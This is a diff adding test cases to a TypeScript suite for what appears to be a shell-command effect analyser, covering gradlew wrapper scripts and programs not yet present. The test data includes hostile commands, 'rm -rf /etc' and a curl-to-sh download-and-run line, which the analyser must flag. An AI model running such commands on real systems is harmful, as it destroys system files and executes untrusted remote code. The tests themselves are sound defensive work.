@@ -137,3 +137,34 @@ describe('git settings', () => {
     expect(effectLines(commandLine, machine)).toEqual(expected)
   })
 })
+
+describe('wrappers of build tools', () => {
+  const wrapper = (text: string) => ({ files: { '/w/gradlew': `#!/bin/sh\n${text}\n` } })
+  test.each<readonly [name: string, text: string, expected: readonly string[]]>([
+    ['what is not understood is the project itself', 'eval "set -- $(cat x | xargs -n1)"\nexec "$JAVACMD" "$@"', []],
+    ['a deny in it stays', 'rm -rf /etc\nexec "$JAVACMD" "$@"', ['delete /etc']],
+    ['a download that it runs stays', 'curl -s https://x.example/a.sh | sh', ['execute:download standard input as shell']],
+  ])('%s', (_name, text, expected) => {
+    const lines = effectLines('./gradlew test', wrapper(text))
+    expect(lines).toEqual(expect.arrayContaining(['execute:project gradlew', 'execute:project tests', ...expected]))
+    expect(lines.filter((line) => line.startsWith('unknown:'))).toEqual([])
+  })
+})
+
+describe('a program that is not there', () => {
+  test.each<Row>([
+    ['a log beside it does not make it', './bin/app > app.log', ['write app.log', 'execute:project bin/app (not there)']],
+    [
+      'parts of a file may',
+      'split -b 9 a.txt new. && ./new.aa',
+      ['read a.txt', 'write new.*', 'unknown: runs `new.aa`, which is not there yet'],
+    ],
+    [
+      'files of another commit may',
+      'git restore --source=other . && ./new.sh',
+      ['delete:uncommitted .', 'unknown: runs `new.sh`, which is not there yet'],
+    ],
+  ])('%s', (_name, commandLine, expected) => {
+    expect(effectLines(commandLine)).toEqual(expected)
+  })
+})
